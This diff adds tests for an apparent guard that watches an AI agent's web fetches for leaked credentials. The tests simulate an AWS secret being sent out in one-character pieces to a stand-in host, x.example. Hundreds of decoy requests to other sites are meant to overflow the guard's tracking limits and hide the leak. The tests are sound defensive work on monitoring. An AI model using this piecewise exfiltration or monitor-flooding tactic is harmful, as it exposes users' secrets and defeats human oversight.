@@ -206,3 +206,58 @@ test('spread: the record is bounded per session, the newest parts kept, and the 
   assert.equal(v.parts.at(-1), 'A');
   assert.ok(v.parts.length >= 2, 'the recent parts of the slot are still there');
 });
+
+test('engine: 600 small sends to other sites between two pieces of the read secret do not hide the first piece: denied on the call that completes it', () => {
+  const r = new Run();
+  r.readCreds();
+  const ds = fetches(r, pieces(SECRET.slice(0, 10), 1), (p) => `https://x.example/c?v=${encodeURIComponent(p)}`);
+  // 600 fetches to 70 other sites: 1,800 parts, past the 512 kept, x.example's among them
+  for (let i = 0; i < 600; i++) ds.push(r.call('WebFetch', { url: `https://s${i}.other${i % 70}.example/q?z=${i}`, prompt: 'ok?' }));
+  assert.ok(ds.every((d) => d.action === 'allow'));
+  assert.ok((r.e.tracker.get('s')?.spread.letGoSlots ?? 0) > 0, 'parts were let go');
+  const rest = fetches(r, pieces(SECRET.slice(10), 1), (p) => `https://x.example/c?v=${encodeURIComponent(p)}`);
+  assert.deepEqual(
+    rest.slice(0, -1).map((d) => d.action),
+    rest.slice(0, -1).map(() => 'allow'),
+  );
+  const last = rest.at(-1) as Decision;
+  assert.equal(last.action, 'deny', last.reason);
+  assert.ok(last.findings.some((f) => f.rule === 'sensitive_to_external' && /AWS secret access key/.test(f.what)));
+  assert.match(last.reason, /the first 10 of them kept after the 512 parts per session let them go/);
+});
+
+test('engine: past what it keeps of the parts let go, a further small send is asked about, naming the bound', () => {
+  const r = new Run();
+  r.readCreds();
+  // 400 fetches, each to a site of its own: more slots let go than the 256 whose tail is kept
+  let i = 0;
+  for (; i < 400 && !r.e.tracker.get('s')?.spread.overflowed; i++)
+    assert.equal(r.call('WebFetch', { url: `https://a.site${i}.example/p/${i}?k=${i}`, prompt: 'ok?' }).action, 'allow');
+  assert.equal(r.e.tracker.get('s')?.spread.overflowed, true);
+  assert.ok(i > 100, `overflowed after ${i} calls`);
+  const d = r.call('WebFetch', { url: 'https://x.example/c?v=Q', prompt: 'ok?' });
+  assert.equal(d.action, 'ask', d.summary);
+  assert.equal(d.findings[0]?.rule, 'spread_limit');
+  assert.match(d.reason, /more small parts than the guard keeps \(512 parts per session, and the last 64 characters of 256 slots whose parts were let go\)/);
+  // a call that sends no small part (no URL, no short field) is not concerned
+  assert.equal(r.call('Read', { file_path: '/home/u/site/README.md' }).action, 'allow');
+});
+
+test("spread: parts let go keep their slot's last 64 characters; the book is saved and read back whole", () => {
+  const book = new SpreadBook();
+  for (const c of 'ABCDEFGHIJ') book.note(callParts(`https://x.example/c?v=${c}`, [], 'x'));
+  for (let i = 0; i < 600; i++) book.note(callParts(`https://s${i}.o${i % 70}.example/q?z=${i}`, [], 'x'));
+  const next = callParts('https://x.example/c?v=K', [], 'x');
+  const st = book.streams(next).find((x) => /the v parameter/.test(x.slot));
+  assert.deepEqual(st?.parts, [...'ABCDEFGHIJK']);
+  assert.equal(st?.letGo, 10);
+  const back = SpreadBook.fromState(JSON.parse(JSON.stringify(book.toState())));
+  assert.deepEqual(back.streams(next), book.streams(next));
+  assert.equal(back.parts, book.parts);
+  // a tail keeps whole parts, the last 64 characters of them
+  const long = new SpreadBook();
+  for (let i = 0; i < 200; i++) long.note(callParts(`https://x.example/c?v=${String(i % 10).repeat(5)}`, [], 'x'));
+  const lt = long.streams(callParts('https://x.example/c?v=end', [], 'x')).find((x) => /the v parameter/.test(x.slot));
+  assert.ok(lt && lt.letGo === 12, String(lt?.letGo));
+  assert.ok(SpreadBook.unreadable().overflowed);
+});
